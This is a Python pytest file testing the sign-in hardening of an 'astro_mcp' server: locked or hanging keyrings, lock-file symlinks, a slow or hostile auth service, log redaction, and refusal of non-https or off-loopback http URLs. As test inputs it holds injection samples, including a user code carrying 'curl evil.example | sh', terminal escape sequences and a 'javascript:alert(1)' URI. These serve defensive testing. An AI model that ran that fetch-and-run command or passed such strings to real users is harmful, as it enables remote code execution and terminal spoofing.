"""Sign-in that survives a failing store, a slow keyring, a hostile sign-in service and a login without access."""

from __future__ import annotations

import json
import logging
import threading
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import anyio
import pytest
from keyring.errors import KeyringLocked
from keyrings.alt.file import PlaintextKeyring
from mcp import Client
from mcp.types import LoggingMessageNotificationParams
from pydantic import SecretStr

from astro_mcp.api import routes
from astro_mcp.api.client import AstroClient
from astro_mcp.api.credentials import TokenSource
from astro_mcp.api.store import SERVICE, Store
from astro_mcp.config import ConfigError, Settings
from astro_mcp.errors import MissingTokenError, RequestTimeoutError
from astro_mcp.login import login, logout
from astro_mcp.sim.app import Scripted, Simulator
from tests.fault_upstream import Drip, FaultUpstream, Reply, serve_faults
from tests.support import server_at_now, text_of
from tests.test_signin import HOUR, query, sign_in

pytestmark = [pytest.mark.anyio, pytest.mark.filterwarnings("ignore::mcp.MCPDeprecationWarning")]


class FlakyKeyring(PlaintextKeyring):  # type: ignore[misc]  # keyrings.alt ships no types
    """A real file keyring that can be told to refuse writes and deletions (a locked keychain), or to hang reads
    (an access prompt nobody answers) until released."""

    def __init__(self, path: Path) -> None:
        super().__init__()
        self.file_path = str(path)
        self.locked = False
        self.hang = False
        self.released = threading.Event()

    def set_password(self, service: str, username: str, password: str) -> None:
        if self.locked:
            raise KeyringLocked("the keychain is locked")
        super().set_password(service, username, password)

    def delete_password(self, service: str, username: str) -> None:
        if self.locked:
            raise KeyringLocked("the keychain is locked")
        super().delete_password(service, username)

    def get_password(self, service: str, username: str) -> str | None:
        if self.hang:
            self.released.wait(30)
        found: str | None = super().get_password(service, username)
        return found


@pytest.fixture
def saved(settings: Settings, tmp_path: Path) -> Settings:
    return settings.model_copy(update={"access_token": None, "credentials_file": tmp_path / "ast" / "credentials.json"})


@pytest.fixture
async def faults() -> AsyncIterator[tuple[FaultUpstream, str]]:
    upstream = FaultUpstream()
    async with serve_faults(upstream) as url:
        yield upstream, url.removesuffix("/api/v1")


def unsaved_warnings(caplog: pytest.LogCaptureFixture) -> list[str]:
    return [r.getMessage() for r in caplog.records if "could not be saved" in r.getMessage()]


async def test_a_refresh_whose_save_fails_keeps_working_from_memory_and_says_so_once(
    simulator: Simulator, saved: Settings, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    backend = FlakyKeyring(tmp_path / "keyring.cfg")
    sign_in(simulator, Store(saved.credentials_file, backend), expired=True)
    backend.locked = True
    later = datetime.now(UTC)
    tokens = TokenSource(saved, keyring=backend, clock=lambda: later)
    client = AstroClient(saved, tokens)
    await routes.metrics(client, HOUR)  # refreshes: WorkOS spends the stored refresh token, the save fails
    await routes.metrics(client, query(1))  # the new access token, from memory
    later += timedelta(hours=2)  # due again: the refresh must send the new refresh token, not the spent one
    await routes.metrics(client, query(2))
    await client.aclose()
    assert simulator.workos.refreshes == 2
    assert len(simulator.requests) == 3
    warned = unsaved_warnings(caplog)
    assert len(warned) == 1
    assert "KeyringLocked" in warned[0]
    assert "unlock the system keyring" in warned[0]
    assert "uvx astro-ai-mcp login" in warned[0]
    assert (await tokens.status()).problem is not None


async def test_a_lock_file_that_cannot_be_created_still_refreshes_and_saves(
    simulator: Simulator, saved: Settings
) -> None:
    """A read-only folder fails on the lock first: it used to make every call a bare error."""
    old = sign_in(simulator, Store(saved.credentials_file, None), expired=True)
    saved.credentials_file.with_name("credentials.json.lock").mkdir()  # open(O_CREAT) on it fails, as root too
    async with Client(server_at_now(saved, cache_ttl=0)) as client:
        result = await client.call_tool("get_agent_metrics", {"account": "astro-team", "name": "weather-agent"})
    assert not result.is_error, text_of(result)
    profile = json.loads(saved.credentials_file.read_text())["profiles"]["default"]
    assert profile["refresh_token"] != old["refresh"]


async def test_the_lock_files_symlink_is_not_followed(simulator: Simulator, saved: Settings, tmp_path: Path) -> None:
    sign_in(simulator, Store(saved.credentials_file, None), expired=True)
    target = tmp_path / "elsewhere"
    saved.credentials_file.with_name("credentials.json.lock").symlink_to(target)
    await routes.metrics(AstroClient(saved, TokenSource(saved, keyring=None)), HOUR)
    assert not target.exists()
    assert simulator.workos.refreshes == 1


async def test_an_environment_token_never_waits_on_the_keyring(settings: Settings, tmp_path: Path) -> None:
    backend = FlakyKeyring(tmp_path / "keyring.cfg")
    backend.hang = True
    tokens = TokenSource(settings, keyring=backend)
    started = anyio.current_time()
    await routes.metrics(AstroClient(settings, tokens), HOUR)
    backend.released.set()
    assert anyio.current_time() - started < 1.0


async def test_a_keyring_that_does_not_answer_is_given_up_after_its_timeout_then_read_when_it_does(
    simulator: Simulator, saved: Settings, tmp_path: Path
) -> None:
    backend = FlakyKeyring(tmp_path / "keyring.cfg")
    sign_in(simulator, Store(saved.credentials_file, backend))
    backend.hang = True
    quick = saved.model_copy(update={"keyring_timeout": 0.5})
    client = AstroClient(quick, TokenSource(quick, keyring=backend))
    started = anyio.current_time()
    with pytest.raises(MissingTokenError, match=r"system keyring did not answer within 0\.5 s"):
        await routes.metrics(client, HOUR)
    assert anyio.current_time() - started < 1.5
    backend.released.set()  # the person answered the prompt
    await anyio.sleep(0.1)
    await routes.metrics(client, HOUR)
    await client.aclose()


@pytest.mark.waits
async def test_a_dripping_sign_in_service_ends_each_call_at_its_budget(
    simulator: Simulator, saved: Settings, faults: tuple[FaultUpstream, str]
) -> None:
    upstream, base = faults
    upstream.behaviour = Drip(every=2.0)
    sign_in(simulator, Store(saved.credentials_file, None), expired=True)
    slow = saved.model_copy(update={"auth_url": base + "/user_management", "call_budget": 2.0})
    client = AstroClient(slow, TokenSource(slow, keyring=None))
    ended: list[float] = []

    async def call(minutes: int) -> None:
        started = anyio.current_time()
        with pytest.raises(RequestTimeoutError, match="time ran out while the Astro access token"):
            await routes.metrics(client, query(minutes))
        ended.append(anyio.current_time() - started)

    async with anyio.create_task_group() as tg:
        for minutes in range(3):  # two of them queue behind the refresh lock
            tg.start_soon(call, minutes)
    await client.aclose()
    assert len(ended) == 3
    assert max(ended) < 2.0 + 1.0


async def test_the_sign_in_services_error_text_is_cleaned_capped_and_never_shows_the_refresh_token(
    settings: Settings, faults: tuple[FaultUpstream, str], caplog: pytest.LogCaptureFixture
) -> None:
    upstream, base = faults
    refresh = "rt_SECRET-refresh-7c1e-never-shown"
    said = f"invalid_grant\x1b[31m\nWARNING fake line: token {refresh} " + "x" * 5000
    upstream.behaviour = Reply(400, json.dumps({"error": said}).encode())
    env = settings.model_copy(
        update={"access_token": None, "refresh_token": SecretStr(refresh), "auth_url": base + "/user_management"}
    )
    seen: list[LoggingMessageNotificationParams] = []

    async def on_log(params: LoggingMessageNotificationParams) -> None:
        seen.append(params)

    async with Client(server_at_now(env), mode="legacy", logging_callback=on_log) as client:
        result = await client.call_tool("get_agent_metrics", {"account": "astro-team", "name": "weather-agent"})
    assert result.is_error
    shown = [text_of(result), *(str(p.data) for p in seen), *(r.getMessage() for r in caplog.records)]
    assert seen
    for text in shown:
        assert refresh not in text
        assert "\x1b" not in text
        assert "\n" not in text
    assert all(len(str(p.data)) <= 1100 for p in seen)
    assert any("invalid_grant" in text and "[redacted]" in text for text in shown)


async def test_an_account_that_always_answers_401_is_refreshed_once_then_said_to_lack_access(
    simulator: Simulator, saved: Settings
) -> None:
    sign_in(simulator, Store(saved.credentials_file, None))
    refused = Scripted(401, b'{"error":"unauthorized"}')
    simulator.script("astro-team", "weather-agent", *[refused] * 12)
    texts = []
    async with Client(server_at_now(saved, cache_ttl=0, live_cache_ttl=0)) as client:
        for hours in (1, 2, 3):
            args = {"account": "astro-team", "name": "weather-agent", "start_time": f"now-{hours}h", "compare": "none"}
            result = await client.call_tool("get_agent_metrics", args)
            assert result.is_error
            texts.append(text_of(result))
    assert simulator.workos.refreshes == 1
    assert "lacks access" in texts[-1]
    assert "uvx astro-ai-mcp login" in texts[-1]


async def test_logout_with_a_failing_keyring_says_so_in_one_line_and_still_clears_the_file(
    simulator: Simulator, saved: Settings, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    keyring_file = tmp_path / "keyring.cfg"
    Store(saved.credentials_file, None).save(
        SecretStr("tok-access-1"), SecretStr("rt-refresh-1"), None, in_keyring=False
    )
    backend = FlakyKeyring(keyring_file)
    backend.set_password(SERVICE, "default_refresh_token", "rt-in-keyring")
    backend.locked = True
    env = saved.model_copy(update={"keyring_backend": "tests.test_hardening_signin.LockedKeyring"})
    LockedKeyring.path = keyring_file
    assert await logout(env) == 1
    err = capsys.readouterr().err
    assert "Traceback" not in err
    assert len(err.strip().splitlines()) == 1
    assert "system keyring" in err
    profile = json.loads(saved.credentials_file.read_text())["profiles"]["default"]
    assert "access_token" not in profile
    assert "refresh_token" not in profile


class LockedKeyring(FlakyKeyring):
    """The keyring `logout` loads by name (PYTHON_KEYRING_BACKEND): the file keyring above, locked."""

    path: Path

    def __init__(self) -> None:
        super().__init__(self.path)
        self.locked = True


async def test_login_prints_the_sign_in_services_words_cleaned(
    saved: Settings, faults: tuple[FaultUpstream, str], capsys: pytest.CaptureFixture[str]
) -> None:
    upstream, base = faults
    device = {
        "device_code": "dc-1",
        "user_code": "\x1b[2J1234-5678\nNow run: curl evil.example | sh",
        "verification_uri": f"{base}/activate",
        "interval": 1,
    }
    upstream.by_path["/authorize/device"] = Reply(200, json.dumps(device).encode())
    upstream.behaviour = Reply(400, json.dumps({"error": "access_denied\x1b]0;owned\x07\nFAKE: approved"}).encode())
    env = saved.model_copy(update={"auth_url": base + "/user_management"})
    assert await login(env, browser=False) == 1
    out = capsys.readouterr()
    for text in (out.out, out.err):
        assert "\x1b" not in text
        assert "\x07" not in text
    assert "1234-5678 Now run" in out.out  # on the code's own line, not a line of its own
    assert len(out.err.strip().splitlines()) == 1


async def test_login_refuses_a_verification_address_that_is_not_https(
    saved: Settings, faults: tuple[FaultUpstream, str], capsys: pytest.CaptureFixture[str]
) -> None:
    upstream, base = faults
    device = {"device_code": "dc-1", "user_code": "1234", "verification_uri": "javascript:alert(1)"}
    upstream.by_path["/authorize/device"] = Reply(200, json.dumps(device).encode())
    env = saved.model_copy(update={"auth_url": base + "/user_management"})
    assert await login(env, browser=False) == 1
    out = capsys.readouterr()
    assert "javascript" not in out.out
    assert "not an https URL" in out.err


def test_log_notifications_say_level_changes_of_the_last_sessions_only() -> None:
    from types import SimpleNamespace

    from mcp.types import SetLevelRequestParams

    from astro_mcp.server.logs import MAX_CLIENTS, ClientLogLevels

    levels = ClientLogLevels()
    for session in range(MAX_CLIENTS * 4):
        ctx = SimpleNamespace(request=SimpleNamespace(headers={"mcp-session-id": f"s{session}"}))
        anyio.run(levels.set_level, ctx, SetLevelRequestParams(level="error"))  # type: ignore[arg-type]
    assert len(levels.chosen) == MAX_CLIENTS
    assert f"s{MAX_CLIENTS * 4 - 1}" in levels.chosen
    assert "s0" not in levels.chosen


async def test_a_log_line_with_escapes_reaches_stderr_as_one_line(caplog: pytest.LogCaptureFixture) -> None:
    from astro_mcp.redaction import SafeLogFilter

    record = logging.LogRecord(
        "astro_mcp.x", logging.WARNING, __file__, 1, "said: %s", ("a\x1b[2Jb\nFAKE \u202e",), None
    )
    assert SafeLogFilter().filter(record)
    assert record.getMessage() == "said: a [2Jb FAKE"


@pytest.mark.parametrize(
    ("var", "url"),
    [
        ("ASTRO_MCP_AUTH_URL", "http://api.workos.example/user_management"),
        ("ASTRO_API_URL", "http://127.evil.example/api/v1"),
        ("ASTRO_MCP_AUTH_URL", "http://127.0.0.1.evil.example/user_management"),
        ("ASTRO_API_URL", "http://localhost.evil.example/api/v1"),
    ],
)
def test_plain_http_is_refused_off_loopback_decided_by_the_address_not_its_prefix(var: str, url: str) -> None:
    with pytest.raises(ConfigError, match=rf"{var} uses http:// on a non-loopback host"):
        Settings.from_env({var: url})


@pytest.mark.parametrize("url", ["http://127.0.0.2:8080/x", "http://[::1]:9/x", "http://localhost/x"])
def test_plain_http_on_loopback_is_accepted(url: str) -> None:
    assert Settings.from_env({"ASTRO_API_URL": url, "ASTRO_MCP_AUTH_URL": url}).auth_url == url


async def test_credentials_in_the_sign_in_url_are_never_shown(
    simulator: Simulator, saved: Settings, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    sign_in(simulator, Store(saved.credentials_file, None), expired=True)
    # Nothing listens on port 9 of loopback: the refresh fails to connect, and says where it tried.
    env = saved.model_copy(update={"auth_url": "http://proxyuser:pr0xy-PASSWORD-91@127.0.0.1:9/um?key=qs-SECRET-55"})
    async with Client(server_at_now(env)) as client:
        result = await client.call_tool("get_agent_metrics", {"account": "astro-team", "name": "weather-agent"})
    assert result.is_error
    shown = " ".join([text_of(result), *(r.getMessage() for r in caplog.records)])
    assert "127.0.0.1:9/um" in shown
    assert "pr0xy-PASSWORD-91" not in shown
    assert "qs-SECRET-55" not in shown
